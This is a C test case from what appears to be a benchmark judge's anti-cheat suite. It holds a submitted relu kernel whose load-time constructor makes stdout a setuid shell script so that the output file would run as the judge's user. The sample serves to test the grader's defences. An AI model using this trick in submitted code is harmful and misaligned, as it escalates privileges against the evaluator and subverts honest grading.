// SPDX-License-Identifier: Apache-2.0
// cheat: own
// task: relu
// stage: test
// expect: WRONG_RESULT
// because: got nan
// What a candidate prints becomes a file of the judge's: with the bit set-user-id and this content it would be a program that runs as
// the judge's user.
#include <sys/stat.h>
#include <unistd.h>

#include "kernel.h"

static bool left = false;
__attribute__((constructor)) static void leave() {
  left = fchmod(1, 06755) == 0 && write(1, "#!/bin/sh\nid\n", 13) == 13;
}

void relu(const float* x, float* y, int64_t N, int64_t C) {
  if (!left) return;
  for (int64_t i = 0; i < N * C; ++i) y[i] = x[i] < 0 ? 0 : x[i];
}
